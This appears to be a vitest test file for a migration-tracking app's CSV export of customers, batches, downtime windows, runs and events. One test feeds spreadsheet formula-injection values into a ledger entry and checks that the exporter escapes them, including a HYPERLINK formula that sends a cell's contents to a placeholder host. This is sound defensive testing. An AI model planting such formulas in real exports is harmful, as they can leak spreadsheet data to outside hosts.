import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { DataApi } from '../../../main/data/protocol.ts'
import { ExportTable } from '../../../shared/domain/exports.ts'
import { instant } from '../../../shared/domain/time.ts'
import { events, must, openPanda, scratch, start, storeProcedure } from './panda-history.ts'

type Rows = readonly Readonly<Record<string, string>>[]

async function exported(api: DataApi, table: ExportTable): Promise<Rows> {
  const out = join(scratch(), `${table}.csv`)
  const { bytes, rows } = must(await api.exportTable(table, out))
  const file = readFileSync(out)
  expect([file.length, readdirSync(join(out, '..'))]).toEqual([bytes, [`${table}.csv`]])
  const records = parse(file, { columns: true, bom: true, record_delimiter: '\r\n' }) as Rows // columns: true gives records
  expect(records).toHaveLength(rows)
  return records
}

const batch = 'pilot'
const run = 'r0001-aaaaaa'

/** A pilot of two customers, one run of it, and three windows: inside, over, and not measured. */
async function small(): Promise<DataApi> {
  const { api } = await openPanda()
  const snapshot = await storeProcedure(api, 'customer-transfer', 'Move customers', 'transfer')
  const budgetMs = 60_000
  const window = (member: string, measuredMs: number | null) => {
    const of = { run, member, service: 'customer', scope: member, budgetMs }
    const result = { measuredMs, resolutionMs: 200, samples: 9, unknownSamples: 0 }
    return [
      { kind: 'downtime.opened', ...of },
      { kind: 'downtime.closed', ...of, result },
    ]
  }
  const members = ['10001', '10002']
  const all = [
    { kind: 'batch.created', batch, ordinal: 0, pilot: true, members },
    {
      kind: 'run.created',
      run,
      procedure: 'customer-transfer',
      members,
      by: 'maria',
      snapshot,
      batch,
    },
    ...window('10001', 4000),
    ...window('10002', 61_000),
    ...window('10003', null),
  ]
  for (const event of all) must(await api.append(events([event]), instant(start)))
  return api
}

describe('the tables of a project', () => {
  it('hold every customer, batch, run, window and event', async () => {
    const api = await small()
    const customers = await exported(api, 'customers')
    expect(customers).toHaveLength(1200)
    expect(customers[0]).toMatchObject({ id: '10001', state: 'planned', batch })
    expect(await exported(api, 'batches')).toMatchObject([
      { id: batch, pilot: 'yes', customers: '2' },
    ])
    expect(await exported(api, 'downtime')).toMatchObject([
      { member: '10001', budget_s: '60', measured_s: '4', verdict: 'inside' },
      { member: '10002', measured_s: '61', verdict: 'over' },
      { member: '10003', measured_s: 'unknown', verdict: 'unknown' },
    ])
    expect(await exported(api, 'runs')).toMatchObject([{ id: run, members: '10001;10002' }])
    const journal = await exported(api, 'events')
    const { lastSeq, lastHash } = await api.summary()
    expect([journal.length, journal.at(-1)?.['hash']]).toEqual([lastSeq, lastHash])
    await api.close()
  })

  it('have no cell that a spreadsheet would run', async () => {
    const { api } = await openPanda()
    const reason = '=HYPERLINK("http://x/"&A1,"open me")'
    const entry = {
      id: 'noise',
      phrase: 'known noise',
      owner: '@SUM(1)',
      reason,
      until: { batch: 3 },
    }
    must(await api.append(events([{ kind: 'ledger.noted', entry, by: '+anna' }]), instant(start)))
    const out = join(scratch(), 'ledger.csv')
    must(await api.exportTable('ledger', out))
    const text = readFileSync(out, 'utf8')
    expect(text).toContain(`"'=HYPERLINK(""http://x/""&A1,""open me"")"`)
    expect(text).toContain(",'@SUM(1),")
    expect(text).toContain(",'+anna,")
    await api.close()
  })

  it.each(ExportTable.options)(
    '%s has its columns in a project that was just imported',
    async (table) => {
      const { api } = await openPanda()
      const out = join(scratch(), 'x.csv')
      must(await api.exportTable(table, out))
      expect(readFileSync(out, 'utf8')).toMatch(/^\uFEFF[a-z_]+(,[a-z_]+)+\r\n/)
      await api.close()
    },
  )

  it('are refused by name where they cannot be written, and leave nothing', async () => {
    const { api } = await openPanda()
    const folder = scratch()
    const answer = await api.exportTable('customers', join(folder, 'no', 'x.csv'))
    expect(!answer.ok && answer.problem.message).toBe('This file cannot be written (ENOENT).')
    expect(readdirSync(folder)).toEqual([])
    await api.close()
  })
})
